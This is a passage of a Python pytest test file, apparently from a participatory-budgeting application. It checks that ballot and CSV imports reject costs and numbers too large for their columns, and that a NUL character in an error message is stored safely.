    text = _pabulib_text(funding_round).replace(";2000\n", f";{value}\n", 1)
    with pytest.raises(PabulibFormatError) as rejected:
        voting.import_pabulib_ballots(coordinator=coordinator, funding_round=funding_round, text=text)
    assert str(rejected.value).startswith("Line 7: the cost of project")


@pytest.mark.parametrize(("importer", "column"), [("budget lines", "amount"), ("area statistics", "value")])
def test_a_number_too_large_for_its_column_is_a_problem_on_its_row(fuzz_world, importer, column):
    importer = next(i for i in TABLE_IMPORTERS if i.name == importer)
    for value in ["1E30", "1e20", "-1E30"]:
        rows = importer.rows(fuzz_world)
        rows[1][rows[0].index(column)] = value
        with pytest.raises(ImportRejected) as rejected:
            importer.run(fuzz_world, csv_bytes(rows), "file.csv")
        assert {problem.row for problem in rejected.value.problems} == {2}


def test_a_problem_quoting_a_nul_is_kept_and_shown_on_the_progress_page(fuzz_world):
    progress = Progress.objects.create(title="Importing", started_by=fuzz_world.people["coordinator"])
    progress.fail("Nothing was imported", details=[{"row": 2, "problem": "No place is called 'a\x00b'"}])
    progress.refresh_from_db()
    assert progress.details == [{"row": 2, "problem": "No place is called 'a\ufffdb'"}]
